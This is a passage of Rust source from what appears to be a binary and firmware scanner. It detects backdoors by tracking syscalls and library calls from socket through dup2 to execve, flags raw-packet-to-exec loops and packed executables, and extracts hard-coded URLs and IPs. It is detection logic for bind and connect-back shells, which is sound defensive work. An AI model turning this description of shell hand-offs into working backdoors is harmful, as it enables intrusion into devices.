    let prefix = format!("{}.extract/0x0.upx/", e.path);
    let restored = tree
        .entries
        .iter()
        .find(|x| x.is_file() && x.path.starts_with(&prefix));
    match restored {
        Some(orig) => {
            f.severity = Severity::Low;
            f.evidence.push_str(&format!(
                "; unpacked in process: the original ({} bytes) is analysed as {}",
                orig.size, orig.path
            ));
        }
        None => f.evidence.push_str(
            "; not unpacked (see the unpack errors), so the program's imports, syscalls and strings were not analysed",
        ),
    }
}

/// Turn a verdict into a finding for `path`, raised to critical when the program is started
/// at boot (`boot` names where).
pub fn finding(path: &str, v: &Verdict, boot: Option<&str>) -> Finding {
    let (severity, evidence) = match boot {
        Some(b)
            if v.kind == kinds::BACKDOOR_BIND_SHELL || v.kind == kinds::BACKDOOR_CONNECT_BACK =>
        {
            let s = if v.severity == Severity::High {
                Severity::Critical
            } else {
                Severity::High
            };
            (s, format!("{}; started at boot: {b}", v.evidence))
        }
        Some(b) if v.kind == kinds::BACKDOOR_SUSPICIOUS => {
            (v.severity, format!("{}; started at boot: {b}", v.evidence))
        }
        _ => (v.severity, v.evidence.clone()),
    };
    let title = if boot.is_some() && v.kind.starts_with("backdoor.") {
        format!("{} (started at boot)", v.title)
    } else {
        v.title.clone()
    };
    Finding::new(v.kind, severity, title, Some(path.to_string()), evidence).with_key(&v.key)
}

// ---------------------------------------------------------------------------------------
// strings

/// Hard-coded public IPv4 addresses, URLs and host names in the printable strings of `data`,
/// sorted and unique (at most 64).
pub fn indicators(data: &[u8]) -> Vec<String> {
    let mut set = BTreeSet::new();
    // every indicator holds a dot (a URL's host, an address, a host name)
    for s in dotted_strings(data, 7) {
        if set.len() >= 64 {
            break;
        }
        if memchr::memmem::find(s.as_bytes(), b"://").is_some() {
            for url in urls(s) {
                set.insert(url);
            }
        }
        for ip in ipv4s(s) {
            set.insert(ip);
        }
        if let Some(h) = hostname(s) {
            set.insert(h);
        }
    }
    set.into_iter().collect()
}

/// Top-level domains a bare host name string is accepted with. A whole string that is a host
/// name (`update.c2.example.net`) is an indicator; host names inside longer text are not
/// (too many file names and symbols look like them).
const TLDS: &[&str] = &[
    "com", "net", "org", "info", "biz", "ru", "cn", "io", "xyz", "top", "cc", "tk", "pw", "su",
    "ws", "me", "co", "online", "site", "club", "onion",
];

fn hostname(s: &str) -> Option<String> {
    let s = s.trim();
    // lower-case letters, digits, '-' and '.' only (symbols and file names mix cases), checked
    // before anything is allocated: most strings of a binary fail here
    if !s
        .bytes()
        .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-' || c == b'.')
    {
        return None;
    }
    let labels: Vec<&str> = s.split('.').collect();
    if labels.len() < 2 || s.len() > 253 {
        return None;
    }
    let ok = labels.iter().all(|l| {
        !l.is_empty()
            && l.len() <= 63
            && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !l.starts_with('-')
    });
    let tld = labels[labels.len() - 1].to_ascii_lowercase();
    if !ok || !TLDS.contains(&tld.as_str()) || host_is_benign(s) {
        return None;
    }
    // all-lowercase host names only: symbols and file names mix cases
    if s.chars().any(|c| c.is_ascii_uppercase()) {
        return None;
    }
    Some(s.to_string())
}

/// The printable runs (bytes 0x20-0x7e) of `data` of `min` to 4096 bytes that hold a dot, in
/// order. Found from the dots (`memchr`) and widened to their run, instead of classifying
/// every byte: most bytes of an executable lie in no such run. Each byte is looked at at
/// most twice.
fn dotted_strings(data: &[u8], min: usize) -> impl Iterator<Item = &str> {
    let printable = |b: &u8| (0x20..0x7f).contains(b);
    let mut from = 0;
    std::iter::from_fn(move || loop {
        let dot = from + memchr::memchr(b'.', data.get(from..)?)?;
        let start = data[..dot]
            .iter()
            .rposition(|b| !printable(b))
            .map_or(0, |i| i + 1);
        let end = data[dot..]
            .iter()
            .position(|b| !printable(b))
            .map_or(data.len(), |i| dot + i);
        from = end;
        if (min..=4096).contains(&(end - start)) {
            if let Ok(s) = std::str::from_utf8(&data[start..end]) {
                return Some(s);
            }
        }
    })
}

fn host_is_benign(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    BENIGN_HOSTS
        .iter()
        .any(|b| host == *b || host.ends_with(&format!(".{b}")))
        || host.starts_with("127.")
        || host.starts_with('[')
        || ipv4_private(&host)
        || !host.contains('.')
        || host.contains('%')
        || host.contains('$')
}

fn urls(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    for scheme in [
        "http://", "https://", "ftp://", "tftp://", "tcp://", "udp://",
    ] {
        let mut from = 0;
        while let Some(i) = s[from..].find(scheme) {
            let start = from + i;
            let rest = &s[start + scheme.len()..];
            let end = rest
                .find(|c: char| c.is_whitespace() || "\"'<>()`,;\\".contains(c))
                .unwrap_or(rest.len());
            let body = &rest[..end];
            let host = body.split(['/', ':', '?']).next().unwrap_or("");
            if !host.is_empty()
                && host
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || ".-".contains(c))
                && !host_is_benign(host)
                && host.chars().any(|c| c.is_ascii_alphabetic() || c == '.')
            {
                out.push(format!("{scheme}{body}"));
            }
            from = start + scheme.len();
        }
    }
    out
}

fn ipv4_private(s: &str) -> bool {
    let o: Vec<u32> = s.split('.').filter_map(|x| x.parse().ok()).collect();
    if o.len() != 4 {
        return false;
    }
    matches!(
        (o[0], o[1]),
        (0, _) | (10, _) | (127, _) | (169, 254) | (192, 168) | (255, _)
    ) || (o[0] == 172 && (16..32).contains(&o[1]))
        || o[0] >= 224
        || o[3] == 0
        || o[3] == 255
}

/// Dotted quads that are public unicast addresses, not version numbers or masks.
fn ipv4s(s: &str) -> Vec<String> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if !b[i].is_ascii_digit()
            || (i > 0
                && (b[i - 1].is_ascii_alphanumeric()
                    || b[i - 1] == b'.'
                    || b[i - 1] == b'-'
                    || b[i - 1] == b'_'))
        {
            i += 1;
            continue;
        }
        let mut j = i;
        let mut parts = 0;
        let mut ok = true;
        loop {
            let st = j;
            while j < b.len() && b[j].is_ascii_digit() && j - st < 4 {
                j += 1;
            }
            let n = &s[st..j];
            if n.is_empty() || n.len() > 3 || (n.len() > 1 && n.starts_with('0')) {
                ok = false;
                break;
            }
            if n.parse::<u32>().map_or(true, |v| v > 255) {
                ok = false;
                break;
            }
            parts += 1;
            if parts == 4 || j >= b.len() || b[j] != b'.' {
                break;
            }
            j += 1;
        }
        let followed = j < b.len()
            && (b[j].is_ascii_alphanumeric() || b[j] == b'.' || b[j] == b'-' || b[j] == b'_');
        if ok && parts == 4 && !followed {
            let ip = &s[i..j];
            let first: u32 = ip
                .split('.')
                .next()
                .and_then(|x| x.parse().ok())
                .unwrap_or(0);
            // version strings ("2.6.36.4", "1.0.2.3"): first octet below 10 with a small
            // second octet are far more often versions than addresses
            let second: u32 = ip
                .split('.')
                .nth(1)
                .and_then(|x| x.parse().ok())
                .unwrap_or(0);
            let versionish = first < 10 && second < 10 && ip != "8.8.8.8" && ip != "8.8.4.4";
            if !ipv4_private(ip) && !versionish {
                out.push(ip.to_string());
            }
        }
        i = j.max(i + 1);
    }
    out
}

/// Identify a BusyBox binary: banner version and the size of the applet table (the
/// NUL-separated, sorted applet names that start with `[\0[[\0`).
pub fn busybox(data: &[u8]) -> Option<BusyBox> {
    let at = memmem::find(data, b"BusyBox v")?;
    busybox_at(data, at, memmem::find(data, b"[\0[[\0"))
}

/// [`busybox`] with the offsets of the banner and of the applet table already found.
fn busybox_at(data: &[u8], at: usize, table: Option<usize>) -> Option<BusyBox> {
    let tail = &data[at + 9..data.len().min(at + 9 + 40)];
    let version: String = tail
        .iter()
        .take_while(|&&b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-' || b == b'_')
        .map(|&b| b as char)
        .collect();
    if version.is_empty() || !version.as_bytes()[0].is_ascii_digit() {
        return None;
    }
    let mut applets = 0;
    let mut network = Vec::new();
    if let Some(t) = table {
        for name in data[t..].split(|&b| b == 0).take(2000) {
            if name.is_empty()
                || !name
                    .iter()
                    .all(|&b| b.is_ascii_alphanumeric() || b"[-_.".contains(&b))
            {
                break;
            }
            applets += 1;
            if let Ok(n) = std::str::from_utf8(name) {
                if BUSYBOX_NETWORK_APPLETS.contains(&n) {
                    network.push(n.to_string());
                }
            }
        }
    }
    Some(BusyBox {
        version,
        applets,
        network_applets: network,
    })
}

// ---------------------------------------------------------------------------------------
// packing

/// Why `data` looks packed: a UPX header, or an executable segment of near-random bytes.
pub fn packed(data: &[u8]) -> Option<String> {
    // UPX: l_info {u32 checksum; "UPX!"; u16 lsize; u8 version; u8 format} right after the
    // program headers, followed by p_info {u32 progid; u32 filesize; u32 blocksize}; the
    // same magic again in the PackHeader near the end of the file.
    let head = &data[..data.len().min(0x1000)];
    if let Some(o) = memmem::find(head, b"UPX!") {
        let version = data.get(o + 6).copied().unwrap_or(0);
        let format = data.get(o + 7).copied().unwrap_or(0);
        // p_info is written in the target's byte order
        let big = data.get(5) == Some(&2);
        let fs = data
            .get(o + 12..o + 16)
            .map(|b| {
                let w = [b[0], b[1], b[2], b[3]];
                if big {
                    u32::from_be_bytes(w)
                } else {
                    u32::from_le_bytes(w)
                }
            })
            .unwrap_or(0);
        let trailer = memmem::rfind(&data[data.len().saturating_sub(0x1000)..], b"UPX!").is_some();
        return Some(format!(
            "UPX l_info header at offset {o:#x} (version {version}, format {format}, unpacked size {fs} bytes{})",
            if trailer { ", PackHeader trailer present" } else { "" }
        ));
    }
    // entropy of the executable PT_LOAD segments
    let (size, entropy) = exec_segment_entropy(data)?;
    if size >= 8192 && entropy > 7.6 {
        return Some(format!(
            "executable segment of {size} bytes with entropy {entropy:.2} bits/byte (compiled code is below 7)"
        ));
    }
    None
}

fn exec_segments(data: &[u8]) -> Vec<(u64, u64, u64)> {
    fn of<E: FileHeader<Endian = Endianness>>(data: &[u8]) -> Vec<(u64, u64, u64)> {
        let Ok(h) = E::parse(data) else {
            return Vec::new();
        };
        let Ok(endian) = h.endian() else {
            return Vec::new();
        };
        let Ok(phdrs) = h.program_headers(endian, data) else {
            return Vec::new();
        };
        phdrs
            .iter()
            .filter(|ph| {
                ph.p_type(endian) == object::elf::PT_LOAD
                    && ph.p_flags(endian) & object::elf::PF_X != 0
            })
            .map(|ph| {
                (
                    ph.p_offset(endian).into(),
                    ph.p_filesz(endian).into(),
                    ph.p_vaddr(endian).into(),
                )
            })
            .collect()
    }
    match data.get(4) {
        Some(1) => of::<object::elf::FileHeader32<Endianness>>(data),
        Some(2) => of::<object::elf::FileHeader64<Endianness>>(data),
        _ => Vec::new(),
    }
}

fn exec_segment_entropy(data: &[u8]) -> Option<(usize, f64)> {
    // four histograms filled in turn and summed: with one, each increment waits for the
    // previous one to the same counter (runs of equal bytes are common in code), about half
    // the speed
    let mut lanes = [[0u64; 256]; 4];
    let mut n = 0usize;
    for (off, size, _) in exec_segments(data) {
        let start = off as usize;
        let end = start.saturating_add(size as usize).min(data.len());
        // skip the ELF and program headers that share the first segment
        let start = start.max(0x200).min(end);
        let mut quads = data[start..end].chunks_exact(4);
        for q in &mut quads {
            lanes[0][q[0] as usize] += 1;
            lanes[1][q[1] as usize] += 1;
            lanes[2][q[2] as usize] += 1;
            lanes[3][q[3] as usize] += 1;
        }
        for &b in quads.remainder() {
            lanes[0][b as usize] += 1;
        }
        n += end - start;
    }
    let mut counts = [0u64; 256];
    for (i, c) in counts.iter_mut().enumerate() {
        *c = lanes.iter().map(|l| l[i]).sum();
    }
    if n == 0 {
        return None;
    }
    let e = counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n as f64;
            -p * p.log2()
        })
        .sum();
    Some((n, e))
}

// ---------------------------------------------------------------------------------------
// syscall stubs

/// System calls of interest: (name, capability).
const SYSCALL_CAPS: &[(&str, Cap)] = &[
    ("socket", Cap::Socket),
    ("socketcall", Cap::Socket),
    ("bind", Cap::Bind),
    ("listen", Cap::Listen),
    ("accept", Cap::Accept),
    ("accept4", Cap::Accept),
    ("connect", Cap::Connect),
    ("dup2", Cap::Dup),
    ("dup3", Cap::Dup),
    ("execve", Cap::Exec),
    ("setsid", Cap::Daemon),
];

/// Syscall numbers per architecture (from the kernel's syscall tables:
/// arch/mips/kernel/syscalls/syscall_o32.tbl, arch/arm/tools/syscall.tbl,
/// include/uapi/asm-generic/unistd.h, arch/x86/entry/syscalls/syscall_{64,32}.tbl).
fn syscall_table(arch: Arch) -> &'static [(u32, &'static str)] {
    match arch {
        Arch::Mips => &[
            (4183, "socket"),
            (4169, "bind"),
            (4174, "listen"),
            (4168, "accept"),
            (4334, "accept4"),
            (4170, "connect"),
            (4063, "dup2"),
            (4327, "dup3"),
            (4011, "execve"),
            (4066, "setsid"),
            (4102, "socketcall"),
        ],
        // n64 (base 5000) and n32 (base 6000): arch/mips/kernel/syscalls/syscall_n{64,32}.tbl;
        // the two tables agree below 200 and differ for dup3 and accept4
        Arch::MipsN64 => &[
            (5040, "socket"),
            (5048, "bind"),
            (5049, "listen"),
            (5042, "accept"),
            (5293, "accept4"),
            (5041, "connect"),
            (5032, "dup2"),
            (5286, "dup3"),
            (5057, "execve"),
            (5110, "setsid"),
        ],
        Arch::MipsN32 => &[
            (6040, "socket"),
            (6048, "bind"),
            (6049, "listen"),
            (6042, "accept"),
            (6297, "accept4"),
            (6041, "connect"),
            (6032, "dup2"),
            (6290, "dup3"),
            (6057, "execve"),
            (6110, "setsid"),
        ],
        Arch::Arm => &[
            (281, "socket"),
            (282, "bind"),
            (283, "connect"),
            (284, "listen"),
            (285, "accept"),
            (366, "accept4"),
            (63, "dup2"),
            (358, "dup3"),
            (11, "execve"),
            (66, "setsid"),
        ],
        Arch::Aarch64 => &[
            (198, "socket"),
            (200, "bind"),
            (201, "listen"),
            (202, "accept"),
            (242, "accept4"),
            (203, "connect"),
            (24, "dup3"),
            (221, "execve"),
            (157, "setsid"),
        ],
        Arch::X86_64 => &[
            (41, "socket"),
            (42, "connect"),
            (43, "accept"),
            (288, "accept4"),
            (49, "bind"),
            (50, "listen"),
            (33, "dup2"),
            (292, "dup3"),
            (59, "execve"),
            (112, "setsid"),
        ],
        Arch::I386 => &[
            (102, "socketcall"),
            (359, "socket"),
            (361, "bind"),
            (362, "connect"),
            (363, "listen"),
            (364, "accept4"),
            (63, "dup2"),
            (330, "dup3"),
            (11, "execve"),
            (66, "setsid"),
        ],
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Arch {
    Mips,
    MipsN32,
    MipsN64,
    Arm,
    Aarch64,
    X86_64,
    I386,
}

/// Capabilities shown by the syscall stubs of a static binary, with evidence
/// (`syscall 4183 (socket) at 0x400128`).
pub fn syscall_caps(data: &[u8]) -> BTreeMap<Cap, String> {
    stub_scan(data).caps
}

/// What the syscall stubs of a static binary show.
#[derive(Debug, Clone, Default)]
pub struct StubScan {
    /// Capabilities, with the first stub that shows each.
    pub caps: BTreeMap<Cap, String>,
    /// Data flow from a socket into the shell, when the tracker followed it: the descriptor
    /// a `socket` (or the `accept` on it) returned reaches `connect`/`accept` and a `dup2`
    /// onto standard input/output/error, followed by `execve` in the same code region.
    pub handoff: Option<String>,
    /// The opposite, seen in the stubs: every `dup2` onto 0/1/2 duplicates a descriptor
    /// another system call (not `socket`/`accept`) returned.
    pub not_handed: Option<String>,
    /// Dynamic executables: a raw socket read, then a program run, in one code region (see
    /// [`packet_to_exec`]).
    pub packet_exec: Option<String>,
    /// The string the hand-off's exec call runs (`"/bin/sh"`, `"/usr/sbin/ftpd"`), when
    /// its path argument held the address of one.
    pub program: Option<String>,
}

/// A value the register tracker knows: a constant, or the result of an earlier trap (index
/// into the trap list), carried through register copies.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Val {
    k: Option<u32>,
    from: Option<usize>,
}

/// One trap the tracker saw: the number register's constant and the first three
/// argument registers.
#[derive(Debug, Clone, Copy)]
struct Trap {
    nr: u32,
    at: u64,
    args: [Val; 3],
}

/// Register file of the tracker. Writes through [`Regs::set`] forget the origin; only a copy
/// keeps it, so an origin means "holds exactly what that trap returned".
struct Regs<const N: usize>([Val; N]);

impl<const N: usize> Regs<N> {
    fn new() -> Self {
        Regs([Val::default(); N])
    }
    fn k(&self, r: usize) -> Option<u32> {
        self.0.get(r).and_then(|v| v.k)
    }
    fn val(&self, r: usize) -> Val {
        self.0.get(r).copied().unwrap_or_default()
    }
    fn set(&mut self, r: usize, k: Option<u32>) {
        if let Some(s) = self.0.get_mut(r) {
            *s = Val { k, from: None };
        }
    }
    fn copy(&mut self, d: usize, s: usize) {
        let v = self.val(s);
        if let Some(x) = self.0.get_mut(d) {
            *x = v;
        }
    }
    /// A call: the callee may overwrite the caller-saved registers. Their constants are kept
    /// (as the tracker always did: a syscall number loaded before a call to a helper and
    /// used after it is common enough, and a wrong number only names a wrong stub) but no
    /// trap result survives a call.
    fn call(&mut self, clobbered: &[usize]) {
        for &r in clobbered {
            if let Some(s) = self.0.get_mut(r) {
                s.from = None;
            }
        }
    }
    /// A call to a known import: the caller-saved registers hold neither the constants nor
    /// the results they held before (unlike [`Regs::call`], which keeps the constants for
    /// the static stub scan).
    fn clobber(&mut self, clobbered: &[usize]) {
        for &r in clobbered {
            if let Some(s) = self.0.get_mut(r) {
                *s = Val::default();
            }
        }
    }
    /// The trap's result register.
    fn result(&mut self, r: usize, idx: Option<usize>) {
        if let Some(s) = self.0.get_mut(r) {
            *s = Val { k: None, from: idx };
        }
    }
    fn args(&self, a: [usize; 3]) -> [Val; 3] {
        [self.val(a[0]), self.val(a[1]), self.val(a[2])]
    }
}

/// Trap callback of the scanners: number, address, arguments; returns the trap's index (for
/// the result register's origin) when the number is known.
type Found<'a> = dyn FnMut(Option<u32>, u64, [Val; 3]) -> Option<usize> + 'a;

/// Longest code region (bytes from the `socket` trap to the `execve` trap) taken as one
/// function when following a socket into the shell. Hand-written bind shells and the
/// connect-back loops of real implants are a few hundred bytes; a linear scan has no
/// function boundaries, so this bounds how far apart the steps may be.
const HANDOFF_REGION: u64 = 4096;

/// `socket(AF_PACKET, ...)` or `socket(..., SOCK_RAW, ...)`: sees traffic not addressed to a
/// listening port. (Both constants are the same on every Linux ABI.)
const AF_PACKET: u32 = 17;
const SOCK_RAW: u32 = 3;
const AF_NETLINK: u32 = 16;
/// Import calls that receive from a descriptor.
const RECEIVE_CALLS: &[&str] = &["read", "recv", "recvfrom", "recvmsg"];

/// The tracker's architecture and data byte order of an ELF file.
fn scan_arch(data: &[u8]) -> Option<(Arch, bool)> {
    let (name, endian) = netvet_unpack::classify::elf_arch(data)?;
    let is64 = data.get(4) == Some(&2);
    let arch = match (name, is64) {
        ("mips", false) => Arch::Mips,
        ("mipsn32", false) => Arch::MipsN32,
        ("mips64", true) => Arch::MipsN64,
        ("arm", _) => Arch::Arm,
        ("aarch64", _) => Arch::Aarch64,
        ("x86_64", true) => Arch::X86_64,
        ("x86", _) | ("x86_64", false) => Arch::I386,
        _ => return None,
    };
    Some((arch, endian == "big"))
}

/// Runs the architecture's decoder(s) over one code range.
fn run_scanner(arch: Arch, code: &[u8], seg: &Segment, found: &mut Found) {
    match arch {
        Arch::Mips | Arch::MipsN32 | Arch::MipsN64 => scan_mips(code, seg, found),
        Arch::Arm => {
            // A32 and Thumb code are mixed in one segment (interworking); each decoder
            // only reports traps whose number register it saw loaded
            scan_arm(code, seg, found);
            scan_thumb(code, seg, found);
        }
        Arch::Aarch64 => scan_aarch64(code, seg, found),
        Arch::X86_64 => scan_x86(code, seg, X86_64_ABI, found),
        Arch::I386 => scan_x86(code, seg, I386_ABI, found),
    }
}

/// `socket(AF_PACKET, ...)` or `socket(..., SOCK_RAW, ...)` among the arguments of a trap
/// or call.
fn raw_socket(t: &Trap) -> Option<&'static str> {
    if t.args[0].k == Some(AF_PACKET) {
        Some("AF_PACKET")
    } else if t.args[1].k.map(|v| v & 0xf) == Some(SOCK_RAW) && t.args[0].k != Some(AF_NETLINK) {
        // a netlink socket is SOCK_RAW too (routing, firewall and uevent messages from the
        // kernel): no traffic
        Some("SOCK_RAW")
    } else {
        None
    }
}

/// What the calls of a dynamically linked executable to its imports show: the register
/// tracker of the static stub scan, run over the code with every call to an import's PLT
/// stub or GOT slot ([`crate::import_calls`]) taken as a trap numbered by that import. The
/// arguments at a call to `socket` give raw capture (`call socket at 0x... with
/// AF_PACKET`); the results of `socket`/`accept` followed through registers into `dup2` and
/// an exec call give the socket-to-shell hand-off, as in static binaries. Only capabilities
/// the imports cannot show are reported (raw capture); the others are the imports'.
pub fn import_call_scan(data: &[u8]) -> StubScan {
    let mut out = StubScan::default();
    let Some((arch, be)) = scan_arch(data) else {
        return out;
    };
    let targets = crate::import_calls::import_targets(data);
    // every flow and capability below starts at a call to socket (raw capture, hand-off,
    // packet to program) or dup2/dup3 (standard descriptors from elsewhere): without one of
    // these imports the walk over the code can find nothing
    let flow_start = |n: &String| FLOW_STARTS.contains(&n.as_str());
    if targets.is_empty() || !targets.names.iter().any(flow_start) {
        return out;
    }
    let traps = collect_traps(
        data,
        arch,
        be,
        be && !targets.be8,
        None,
        Some(&targets),
        |nr| {
            // only calls to an import are kept
            targets
                .at_index(nr.checked_sub(IMPORT_MARK)?)
                .map(|(_, name)| name)
        },
    );
    for (t, name) in &traps {
        if *name != "socket" {
            continue;
        }
        if let Some(what) = raw_socket(t) {
            out.caps
                .entry(Cap::RawCapture)
                .or_insert_with(|| format!("call socket at {:#x} with {what}", t.at));
        }
    }
    call_flows(data, &traps, &mut out, |s| s);
    out
}

/// The data flows the tracker's calls show, into `out`: the socket handed to a shell and the
/// program the exec call runs, standard descriptors taken from elsewhere, a packet reaching a
/// program; each evidence text passed through `note`. One tail for the import-call and the
/// library-call scans.
fn call_flows(
    data: &[u8],
    traps: &[(Trap, &str)],
    out: &mut StubScan,
    note: impl Fn(String) -> String,
) {
    let loads = crate::exec_path::load_segments(data);
    let path = |k: u32| crate::exec_path::string_at(data, &loads, u64::from(k));
    let (handoff, program) = socket_to_shell(traps, true, &path).unzip();
    out.handoff = handoff.map(&note);
    out.program = program.flatten();
    if out.handoff.is_none() {
        out.not_handed = stdio_from_elsewhere(traps, true).map(&note);
    }
    out.packet_exec = packet_to_exec(traps).map(&note);
}

/// What the calls of a static executable to C library functions recognised by signature
/// ([`crate::libsigs`]) show.
#[derive(Debug, Clone, Default)]
pub struct LibraryCalls {
    /// Capabilities, hand-off and packet-to-program flow, as [`import_call_scan`] gives them
    /// for imports (evidence `call socket at 0x... (library function recognised by
    /// signature)`).
    pub scan: StubScan,
    /// A call to a recognised `system`/`popen`.
    pub command_line: Option<String>,
    /// The entry points recognised (address, name, library).
    pub recognised: Vec<crate::libsigs::Recognised>,
}

/// The signature architecture of the tracker's architecture and byte order, with the
/// instruction alignment.
fn libsig_arch(arch: Arch, be: bool) -> Option<(&'static str, u64)> {
    Some(match (arch, be) {
        (Arch::Mips, true) => ("mips", 4),
        (Arch::Mips, false) => ("mipsel", 4),
        (Arch::Arm, false) => ("arm", 4),
        (Arch::Aarch64, false) => ("aarch64", 4),
        (Arch::X86_64, _) => ("x86_64", 1),
        (Arch::I386, _) => ("i386", 1),
        _ => return None,
    })
}

/// Static executables: the calls to C library entry points recognised by byte signature
/// (`system`, `popen`, `execve`, `socket`, `connect`, `accept`, `dup2`, ...), taken as
/// import calls by the register tracker, so that a bind shell or connect-back client
/// linked against a static C library shows the same socket-to-shell flow as a dynamic one.
pub fn library_call_scan(data: &[u8]) -> LibraryCalls {
    let mut out = LibraryCalls::default();
    let Some((arch, be)) = scan_arch(data) else {
        return out;
    };
    let Some((key, align)) = libsig_arch(arch, be) else {
        return out;
    };
    let segments = exec_segments(data);
    out.recognised = crate::libsigs::recognise(data, key, &segments, align);
    if out.recognised.is_empty() {
        return out;
    }
    let targets =
        crate::libsigs::call_targets(data, &out.recognised, matches!(arch, Arch::Mips), be);
    let traps = collect_traps(data, arch, be, be, None, Some(&targets), |nr| {
        targets
            .at_index(nr.checked_sub(IMPORT_MARK)?)
            .map(|(_, name)| name)
    });
    const BY_SIG: &str = "(library function recognised by signature)";
    let lib_caps: [(Cap, &[&str]); 7] = [
        (Cap::Socket, &["socket"]),
        (Cap::Bind, &["bind"]),
        (Cap::Listen, &["listen"]),
        (Cap::Accept, &["accept", "accept4"]),
        (Cap::Connect, &["connect"]),
        (Cap::Dup, &["dup2", "dup3"]),
        (Cap::Exec, EXEC_IMPORTS),
    ];
    for (t, name) in &traps {
        for (cap, names) in lib_caps {
            if names.contains(name) {
                out.scan
                    .caps
                    .entry(cap)
                    .or_insert_with(|| format!("call {name} at {:#x} {BY_SIG}", t.at));
            }
        }
        if matches!(*name, "system" | "popen") && out.command_line.is_none() {
            out.command_line = Some(format!("call {name} at {:#x} {BY_SIG}", t.at));
        }
        if *name == "socket" {
            if let Some(what) = raw_socket(t) {
                out.scan
                    .caps
                    .entry(Cap::RawCapture)
                    .or_insert_with(|| format!("call socket at {:#x} with {what} {BY_SIG}", t.at));
            }
        }
    }
    call_flows(data, &traps, &mut out.scan, |s| {
        format!("{s} (library functions recognised by signature)")
    });
    out
}

/// A raw socket read and a program run right after (dynamic executables): the descriptor
/// a `socket(AF_PACKET | SOCK_RAW)` call returned reaches a receive call (`read`, `recv`,
/// `recvfrom`, `recvmsg`), followed by an exec call (`execve`, `execl`, `system`, `popen`,
/// ...) in the same code region ([`HANDOFF_REGION`] from the socket call): the shape of a
/// loop that runs what a packet carries. A daemon that only sends or receives on a raw
/// socket (DHCP, PPPoE, router advertisements, LLDP) and runs its scripts from other code
/// does not have it.
fn packet_to_exec(traps: &[(Trap, &str)]) -> Option<String> {
    for (si, (s, sname)) in traps.iter().enumerate() {
        if *sname != "socket" {
            continue;
        }
        let Some(what) = raw_socket(s) else { continue };
        let mut received: Option<(u64, &str)> = None;
        for (t, n) in traps.iter().skip(si + 1) {
            if t.at.saturating_sub(s.at) > HANDOFF_REGION {
                break;
            }
            if received.is_none() && RECEIVE_CALLS.contains(n) && t.args[0].from == Some(si) {
                received = Some((t.at, n));
            }
            if let Some((at, rn)) = received {
                if EXEC_IMPORTS.contains(n) && t.at > at {
                    return Some(format!(
                        "packet to program: call socket at {:#x} with {what} -> call {rn} at {at:#x} on it -> call {n} at {:#x}",
                        s.at, t.at
                    ));
                }
            }
        }
    }
    None
}

/// The traps (system call stubs, or calls to imports) the register tracker finds in the
/// executable segments of `data`, at most [`MAX_CODE_SCAN`] bytes of code and 65,536 traps,
/// each with the name `name` gives its number; a number `name` refuses is not kept. One walk
/// for [`stub_scan`] and [`import_call_scan`].
fn collect_traps<'n>(
    data: &[u8],
    arch: Arch,
    be: bool,
    ins_be: bool,
    calls: Option<&std::cell::RefCell<Vec<Call>>>,
    imports: Option<&ImportTargets>,
    name: impl Fn(u32) -> Option<&'n str>,
) -> Vec<(Trap, &'n str)> {
    let mut traps: Vec<(Trap, &'n str)> = Vec::new();
    let mut budget = MAX_CODE_SCAN;
    let loads = crate::exec_path::load_segments(data);
    for (off, size, vaddr) in exec_segments(data) {
        let start = off as usize;
        let end = start.saturating_add(size as usize).min(data.len());
        if start >= end {
            continue;
        }
        let code = &data[start..end.min(start + budget)];
        budget = budget.saturating_sub(code.len());
        let seg_at = |lo: usize| Segment {
            data,
            file_off: off.wrapping_add(lo as u64),
            vaddr: vaddr.wrapping_add(lo as u64),
            be,
            ins_be,
            seed: &[],
            stack_marks: false,
            calls,
            imports,
            loads: &loads,
        };
        let mut found = |nr: Option<u32>, at: u64, args: [Val; 3]| -> Option<usize> {
            let nr = nr?;
            let n = name(nr)?;
            // a bounded list: one entry per stub or call of interest
            if traps.len() >= 1 << 16 {
                return None;
            }
            traps.push((Trap { nr, at, args }, n));
            Some(traps.len() - 1)
        };
        // MIPS import calls: only the code around the calls a flow can start at
        let windows = match arch {
            Arch::Mips | Arch::MipsN32 | Arch::MipsN64 if imports.is_some() => {
                mips_flow_windows(code, &seg_at(0))
            }
            _ => vec![(0, code.len())],
        };
        for (lo, hi) in windows {
            if let Some(part) = code.get(lo..hi) {
                run_scanner(arch, part, &seg_at(lo), &mut found);
            }
        }
        if budget == 0 {
            break;
        }
    }
    traps
}

/// Imports every flow of the import-call scan starts at: socket (raw capture, hand-off,
/// packet to program) and dup2/dup3 (standard descriptors from elsewhere).
const FLOW_STARTS: &[&str] = &["socket", "dup2", "dup3"];
/// Code walked before such a call (its arguments, and for dup2 the call whose result it
/// duplicates) and after it (the hand-off region of a socket, and a little more).
const WINDOW_BEFORE: usize = 8192;
const WINDOW_AFTER: usize = HANDOFF_REGION as usize + 256;

/// MIPS: the byte ranges of `code` around every instruction that can put the address of one
/// of the [`FLOW_STARTS`] imports into a register (a load from its GOT slot, a `jal` or
/// `bal` to its stub: the only ways the tracker learns an import), merged and in order. The
/// tracker walks only these: the MIPS walk over whole programs was the largest cost of the
/// analysis (5 % of a scan's CPU), and a program calls these imports in few places. The
/// stubs and GOT slots of these imports are a handful of addresses, collected first: each
/// GOT load and call is compared against them instead of being looked up in the whole import
/// table (which cost 1.5 % of a scan's CPU on the benchmark image).
fn mips_flow_windows(code: &[u8], seg: &Segment) -> Vec<(usize, usize)> {
    let Some(targets) = seg.imports else {
        return Vec::new();
    };
    let addrs: Vec<u64> = targets
        .by_addr
        .iter()
        .filter(|&(_, &i)| {
            targets
                .at_index(i)
                .is_some_and(|(_, n)| FLOW_STARTS.contains(&n))
        })
        .map(|(&a, _)| a)
        .collect();
    if addrs.is_empty() {
        return Vec::new();
    }
    let wanted = |addr: u64| addrs.contains(&addr);
    let mut out: Vec<(usize, usize)> = Vec::new();
    for (i, c) in code.chunks_exact(4).enumerate() {
        let w = seg.ins(c);
        let (op, rs) = (w >> 26, (w >> 21) & 31);
